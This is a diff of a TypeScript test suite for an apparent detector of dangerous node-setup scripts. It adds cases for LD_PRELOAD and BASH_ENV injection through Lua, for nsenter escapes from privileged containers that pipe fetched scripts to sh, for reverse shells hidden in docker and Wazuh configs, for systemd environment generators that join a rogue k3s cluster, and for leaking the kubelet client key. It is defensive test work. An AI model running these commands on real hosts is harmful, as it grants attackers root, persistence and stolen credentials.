@@ -151,7 +151,7 @@ const loadersInsecure: NodeCase[] = [
         devNodeScript("dev-l13-70-nodes", [SO, `tclsh <<< 'array set env {LD_PRELOAD /opt/x.so}; exec ls'`]),
         RELAY,
     ),
-    // MISS: luaposix reference (posix.stdlib.setenv(name, value): "Set an environment variable for this process";
+    // Was a MISS (fixed in round 71): luaposix reference (posix.stdlib.setenv(name, value): "Set an environment variable for this process";
     // the top-level posix.setenv re-exports it) + Lua 5.4 manual os.execute (ISO C system(): the child inherits the
     // environment) + ld.so(8) LD_PRELOAD: the downloaded /opt/x.so is loaded into root's ls. Round 70 made loader
     // variables set in perl %ENV, ruby ENV, tcl env() make the child unread; the lua judge (userData.ts CODE_LOADERS lua /
@@ -165,9 +165,8 @@ const loadersInsecure: NodeCase[] = [
             `lua -e 'require("posix.stdlib").setenv("LD_PRELOAD", "/opt/x.so"); os.execute("ls")'`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: same gap as the case above (luaposix top-level posix.setenv). Accepted (got []).
+    // Was a MISS (fixed in round 71): same gap as the case above (luaposix top-level posix.setenv). Accepted (got []).
     devNodeCase(
         "lua posix.setenv (luaposix top-level) LD_PRELOAD then os.execute ls",
         devNodeScript("dev-l14b-70-nodes", [
@@ -175,7 +174,36 @@ const loadersInsecure: NodeCase[] = [
             `lua -e 'local posix = require("posix"); posix.setenv("LD_PRELOAD", "/opt/x.so"); os.execute("ls")'`,
         ]),
         RELAY,
-        true,
+    ),
+    // Round 71 neighbours: the setter aliased (its name is computed), BASH_ENV through a written lua file, and the
+    // putenv "NAME=VALUE" spelling.
+    devNodeCase(
+        "lua luaposix setenv aliased to a local, LD_PRELOAD then os.execute ls",
+        devNodeScript("dev-l14c-71-nodes", [
+            SO,
+            `lua -e 'local stdlib = require "posix.stdlib"; local set = stdlib.setenv; set("LD_PRELOAD", "/opt/x.so"); os.execute("ls")'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "lua file: posix.setenv BASH_ENV of a written shell then io.popen bash",
+        devNodeScript("dev-l14d-71-nodes", [
+            ...SH,
+            ...written(
+                "/opt/run.lua",
+                `local posix = require("posix")\nposix.setenv("BASH_ENV", "/opt/r.sh")\nio.popen("bash -c true"):read("a")`,
+            ),
+            "lua /opt/run.lua",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "lua putenv of LD_PRELOAD=... then os.execute ls",
+        devNodeScript("dev-l14e-71-nodes", [
+            SO,
+            `lua -e 'local posix = require("posix"); posix.putenv("LD_PRELOAD=/opt/x.so"); os.execute("ls")'`,
+        ]),
+        RELAY,
     ),
     devNodeCase(
         "luajit ffi.load aliased to a local",
@@ -249,6 +277,12 @@ const loadersSecure: NodeCase[] = [
         devNodeScript("dev-ls3-70-nodes", [`perl -e 'local $ENV{TZ} = "UTC"; system("date")' > /tmp/d`]),
     ),
     devNodeCase(
+        "lua luaposix setenv TZ then os.execute date harmless (round 71 twin)",
+        devNodeScript("dev-ls6-71-nodes", [
+            `lua -e 'require("posix.stdlib").setenv("TZ", "UTC"); os.execute("date > /tmp/d")'`,
+        ]),
+    ),
+    devNodeCase(
         "ruby IO.popen with an env hash TZ harmless",
         devNodeScript("dev-ls4-70-nodes", [`ruby -e 'print IO.popen({"TZ" => "UTC"}, "date").read' > /tmp/d`]),
     ),
@@ -289,7 +323,7 @@ const agentsInsecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: docker exec reference ("runs a new command in a running container"; the process gets the container's
+    // Was a MISS (fixed in round 71): docker exec reference ("runs a new command in a running container"; the process gets the container's
     // privileges, and `--privileged` on run grants "all capabilities", with --pid=host nsenter -t 1 reaches PID 1's
     // namespaces): the exec'd `sh -c` line fetches and runs a script in the node's namespaces as root. rootReads.ts
     // (the container engine branch, ~6270: containerExec/exec.escalates) only judges an exec that itself adds
@@ -304,9 +338,8 @@ const agentsInsecure: NodeCase[] = [
             "docker exec tools sh -c 'nsenter -t 1 -a sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: same gap as docker exec (nerdctl exec, containerd). Accepted (got []).
+    // Was a MISS (fixed in round 71): same gap as docker exec (nerdctl exec, containerd). Accepted (got []).
     devNodeCase(
         "nerdctl exec sh -c into a privileged host-pid container",
         devNodeScript("dev-a4b-70-nodes", [
@@ -314,7 +347,55 @@ const agentsInsecure: NodeCase[] = [
             "nerdctl exec tools sh -c 'nsenter -t 1 -a sh -c \"curl -fsSL https://ci.example.com/r.sh | sh\"'",
         ]),
         RELAY,
-        true,
+    ),
+    // Round 71 neighbours: a host-network container (instance metadata answers it with the node role), podman exec
+    // -it bash -c into a host-PID one, an exec into a container the script did not start (its powers unknown), and
+    // one started by another engine under the same name (docker's store is not containerd's).
+    devNodeCase(
+        "docker exec sh -c running a fetched script in a host-network container",
+        devNodeScript("dev-a4c-71-nodes", [
+            "docker run -d --name tools --net=host docker.io/library/alpine:3.20 sleep infinity",
+            "docker exec tools sh -c 'curl -fsSL https://ci.example.com/r.sh | sh'",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "podman exec -it bash -c into a host-pid container running a reverse shell",
+        devNodeScript("dev-a4d-71-nodes", [
+            "podman run -d --name tools --pid=host --privileged docker.io/library/ubuntu:24.04 sleep infinity",
+            `podman exec -it tools bash -c 'nsenter -t 1 -a ${BASH_SHELL}'`,
+        ]),
+        RELAY,
+    ),
+    // Round 71: a reverse shell on the -c line of a node-reaching container (run or exec) was read by the root reader
+    // only (made-at-boot programs, data directories), not by the judge of relays: the shell is now judged as a command
+    // root runs (rootReads containerShell → NodeJudge.ran).
+    devNodeCase(
+        "docker run --privileged --pid=host --entrypoint /bin/bash -c nsenter reverse shell",
+        devNodeScript("dev-a4g-71-nodes", [
+            `docker run -d --privileged --pid=host --entrypoint /bin/bash docker.io/library/ubuntu:24.04 -c 'nsenter -t 1 -a ${BASH_SHELL}'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "docker run --privileged --pid=host IMAGE bash -c reverse shell",
+        devNodeScript("dev-a4h-71-nodes", [
+            `docker run -d --privileged --pid=host docker.io/library/ubuntu:24.04 bash -c '${BASH_SHELL}'`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "docker exec of a harmless command into a container the script did not start",
+        devNodeScript("dev-a4e-71-nodes", ["docker exec tools sh -c 'apk info -v > /tmp/pkgs'"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "docker exec into a name nerdctl started (another engine's store)",
+        devNodeScript("dev-a4f-71-nodes", [
+            "nerdctl run -d --name tools docker.io/library/alpine:3.20 sleep infinity",
+            "docker exec tools sh -c 'apk info -v > /tmp/pkgs'",
+        ]),
+        RELAY,
     ),
     devNodeCase(
         "ctr run --privileged with host networking running a fetched script",
@@ -352,7 +433,7 @@ const agentsInsecure: NodeCase[] = [
         ]),
         REMOTE,
     ),
-    // MISS: systemd.environment-generator(7) ("systemd(1) will execute those binaries very early at the startup of each
+    // Was a MISS (fixed in round 71): systemd.environment-generator(7) ("systemd(1) will execute those binaries very early at the startup of each
     // manager and at configuration reload time ... Environment generators can override the environment that the manager
     // exports to services"; /etc/systemd/system-environment-generators/* is on the path): the written generator's output
     // K3S_URL/K3S_TOKEN reaches the packaged k3s unit, which joins another cluster (its API users run anything as root on
@@ -373,7 +454,68 @@ const agentsInsecure: NodeCase[] = [
             "systemctl enable --now k3s",
         ]),
         REMOTE,
-        true,
+    ),
+    // Round 71 neighbours: the packaged directory with quoted echo lines, a generator printing by other means
+    // (printf: unread), a loader variable for every unit (a user manager's generator too), and one fetched.
+    devNodeCase(
+        "systemd environment generator in /usr/lib with quoted echo lines, k3s started",
+        devNodeScript("dev-a8b-71-nodes", [
+            ...file("/usr/lib/systemd/system-environment-generators/50-join", [
+                "#!/usr/bin/env bash",
+                "# join the ops cluster",
+                `echo "K3S_URL=https://k3s.example.com:6443"`,
+                "echo 'K3S_TOKEN=EXAMPLEONLY'",
+            ]),
+            "chmod 755 /usr/lib/systemd/system-environment-generators/50-join",
+            "systemctl daemon-reexec",
+            "systemctl enable --now k3s",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "systemd environment generator printing with printf (unread), k3s started",
+        devNodeScript("dev-a8c-71-nodes", [
+            ...file("/etc/systemd/system-environment-generators/50-join", [
+                "#!/bin/sh",
+                "printf 'K3S_URL=%s\\nK3S_TOKEN=%s\\n' https://k3s.example.com:6443 EXAMPLEONLY",
+            ]),
+            "chmod 755 /etc/systemd/system-environment-generators/50-join",
+            "systemctl daemon-reexec",
+            "systemctl enable --now k3s",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "systemd environment generator setting LD_PRELOAD for every unit",
+        devNodeScript("dev-a8d-71-nodes", [
+            SO,
+            ...file("/etc/systemd/system-environment-generators/10-preload", [
+                "#!/bin/sh",
+                "echo LD_PRELOAD=/opt/x.so",
+            ]),
+            "chmod 755 /etc/systemd/system-environment-generators/10-preload",
+            "systemctl daemon-reexec",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "user-environment generator setting BASH_ENV",
+        devNodeScript("dev-a8e-71-nodes", [
+            ...SH,
+            ...file("/etc/systemd/user-environment-generators/10-env", ["#!/bin/sh", "echo BASH_ENV=/opt/r.sh"]),
+            "chmod 755 /etc/systemd/user-environment-generators/10-env",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "systemd environment generator downloaded into place, k3s started",
+        devNodeScript("dev-a8f-71-nodes", [
+            "curl -fsSL -o /etc/systemd/system-environment-generators/50-join https://ci.example.com/gen.sh",
+            "chmod 755 /etc/systemd/system-environment-generators/50-join",
+            "systemctl daemon-reexec",
+            "systemctl enable --now k3s",
+        ]),
+        REMOTE,
     ),
     devNodeCase(
         "systemd generator (root at every daemon-reload) running a reverse shell",
@@ -474,7 +616,7 @@ const agentsInsecure: NodeCase[] = [
         ]),
         REMOTE,
     ),
-    // MISS: Wazuh ossec.conf reference, localfile `command` ("A command to be run. All output from this command will be
+    // Was a MISS (fixed in round 71): Wazuh ossec.conf reference, localfile `command` ("A command to be run. All output from this command will be
     // read as one or more log messages depending on whether command or full_command is used"; run by wazuh-logcollector,
     // root on the agent, every `frequency` seconds): root fetches and runs a script from ci.example.com every minute.
     // The pack reads wazuh's remote_commands switches (internal_options.conf, local_internal_options.conf) but not the
@@ -497,7 +639,6 @@ const agentsInsecure: NodeCase[] = [
             "systemctl enable --now wazuh-agent",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "wazuh ossec.conf localfile log_format command running a written shell",
@@ -515,7 +656,7 @@ const agentsInsecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: Wazuh "Command" wodle reference (wodle name="command": "<command> Command to be executed", run by the agent's
+    // Was a MISS (fixed in round 71): Wazuh "Command" wodle reference (wodle name="command": "<command> Command to be executed", run by the agent's
     // modulesd as root every <interval>): same gap as the localfile command above. Accepted (got []).
     devNodeCase(
         "wazuh ossec.conf command wodle running a fetched script",
@@ -532,7 +673,92 @@ const agentsInsecure: NodeCase[] = [
             "systemctl enable --now wazuh-agent",
         ]),
         RELAY,
-        true,
+    ),
+    // Round 71 neighbours: the centralized agent.conf, XML entities and CDATA in the line, a command element the pack
+    // cannot read (markup inside), and a configuration downloaded into place.
+    devNodeCase(
+        "wazuh shared agent.conf localfile command with a reverse shell",
+        devNodeScript("dev-a19b-71-nodes", [
+            ...file("/var/ossec/etc/shared/agent.conf", [
+                "<agent_config>",
+                "  <localfile>",
+                "    <log_format>full_command</log_format>",
+                `    <command>${BASH_SHELL.replace(/&/g, "&amp;").replace(/>/g, "&gt;")}</command>`,
+                "  </localfile>",
+                "</agent_config>",
+            ]),
+            "echo 'logcollector.remote_commands=1' >> /var/ossec/etc/local_internal_options.conf",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "wazuh ossec.conf localfile command df -P &amp;&amp; a fetched script",
+        devNodeScript("dev-a19c-71-nodes", [
+            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
+            "<ossec_config>",
+            "  <localfile>",
+            "    <log_format>command</log_format>",
+            "    <command>df -P &amp;&amp; curl -fsSL https://ci.example.com/r.sh | sh</command>",
+            "  </localfile>",
+            "</ossec_config>",
+            "EOF",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "wazuh command wodle with a CDATA reverse shell",
+        devNodeScript("dev-a19d-71-nodes", [
+            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
+            "<ossec_config>",
+            '  <wodle name="command">',
+            `    <command><![CDATA[bash -c '${BASH_SHELL}']]></command>`,
+            "    <interval>10m</interval>",
+            "  </wodle>",
+            "</ossec_config>",
+            "EOF",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "wazuh command element holding markup (unread)",
+        devNodeScript("dev-a19e-71-nodes", [
+            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
+            "<ossec_config>",
+            "  <localfile>",
+            "    <log_format>command</log_format>",
+            "    <command>df -P<x/></command>",
+            "  </localfile>",
+            "</ossec_config>",
+            "EOF",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "wazuh ossec.conf localfile full_command printing the kubelet's client key (shipped to the manager)",
+        devNodeScript("dev-a19g-71-nodes", [
+            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
+            "<ossec_config>",
+            "  <localfile>",
+            "    <log_format>full_command</log_format>",
+            "    <command>cat /var/lib/kubelet/pki/kubelet-client-current.pem</command>",
+            "  </localfile>",
+            "</ossec_config>",
+            "EOF",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        /kubelet|credentials|token/,
+    ),
+    devNodeCase(
+        "wazuh ossec.conf downloaded into place",
+        devNodeScript("dev-a19f-71-nodes", [
+            "curl -fsSL -o /var/ossec/etc/ossec.conf https://ci.example.com/ossec.conf",
+            "systemctl enable --now wazuh-agent",
+        ]),
+        RELAY,
     ),
     devNodeCase(
         "wazuh active-response script that runs the alert's command (manager-triggered root shell)",
@@ -628,6 +854,20 @@ const agentsSecure: NodeCase[] = [
         ]),
     ),
     devNodeCase(
+        "systemd environment generator echoing LANG=C.UTF-8, k3s started (round 71 twin)",
+        devNodeScript("dev-as2b-71-nodes", [
+            ...file("/etc/systemd/system-environment-generators/50-lang", [
+                "#!/bin/sh",
+                "# the manager's locale",
+                "echo LANG=C.UTF-8",
+                'echo "K3S_KUBECONFIG_MODE=0600"',
+            ]),
+            "chmod 755 /etc/systemd/system-environment-generators/50-lang",
+            "systemctl daemon-reexec",
+            "systemctl enable --now k3s",
+        ]),
+    ),
+    devNodeCase(
         "/etc/environment.d proxy settings (user managers only)",
         devNodeScript("dev-as3-70-nodes", [
             ...file("/etc/environment.d/10-proxy.conf", [
@@ -682,6 +922,36 @@ const agentsSecure: NodeCase[] = [
         ]),
     ),
     devNodeCase(
+        "wazuh ossec.conf: the agent template's netstat and last commands, a command wodle running uptime (round 71 twins)",
+        devNodeScript("dev-as7b-71-nodes", [
+            "cat >> /var/ossec/etc/ossec.conf <<'EOF'",
+            "<ossec_config>",
+            "  <localfile>",
+            "    <log_format>full_command</log_format>",
+            "    <command>netstat -tulpn | sed 's/\\([[:alnum:]]\\+\\)\\ \\+[[:digit:]]\\+\\ \\+[[:digit:]]\\+\\ \\+\\(.*\\):\\([[:digit:]]*\\)\\ \\+\\([0-9\\.\\:\\*]\\+\\).\\+\\ \\([[:digit:]]*\\/[[:alnum:]\\-]*\\).*/\\2 \\3 \\4 \\5/' | sort -k 4 -g | sed 's/ \\+/ /g' | sort -u</command>",
+            "    <alias>netstat listening ports</alias>",
+            "    <frequency>360</frequency>",
+            "  </localfile>",
+            "  <localfile>",
+            "    <log_format>full_command</log_format>",
+            "    <command>last -n 20</command>",
+            "    <frequency>360</frequency>",
+            "  </localfile>",
+            '  <wodle name="command">',
+            "    <disabled>no</disabled>",
+            "    <command>uptime</command>",
+            "    <interval>1h</interval>",
+            "  </wodle>",
+            "  <active-response>",
+            "    <disabled>no</disabled>",
+            "    <command>firewall-drop</command>",
+            "  </active-response>",
+            "</ossec_config>",
+            "EOF",
+            "systemctl enable --now wazuh-agent",
+        ]),
+    ),
+    devNodeCase(
         "docker run node_exporter on the host network, no binds, loopback listen",
         devNodeScript("dev-as8-70-nodes", [
             "docker run -d --name node-exporter --net=host quay.io/prometheus/node-exporter:v1.8.2 --web.listen-address=127.0.0.1:9100",
@@ -692,6 +962,20 @@ const agentsSecure: NodeCase[] = [
         devNodeScript("dev-as11-70-nodes", [
             "docker run -d --name tools docker.io/library/alpine:3.20 sleep infinity",
             "docker exec tools sh -c 'apk info -v > /tmp/pkgs'",
+        ]),
+    ),
+    devNodeCase(
+        "nerdctl exec of a harmless command in an unprivileged container (round 71 twin)",
+        devNodeScript("dev-as12-71-nodes", [
+            "nerdctl run -d --name tools docker.io/library/alpine:3.20 sleep infinity",
+            "nerdctl exec tools sh -c 'apk info -v > /tmp/pkgs'",
+        ]),
+    ),
+    devNodeCase(
+        "docker exec of a harmless line into a privileged host-pid container (round 71 twin: read as root's own)",
+        devNodeScript("dev-as13-71-nodes", [
+            "docker run -d --name tools --privileged --pid=host docker.io/library/alpine:3.20 sleep infinity",
+            "docker exec tools sh -c 'uname -r > /tmp/kernel'",
         ]),
     ),
     devNodeCase(
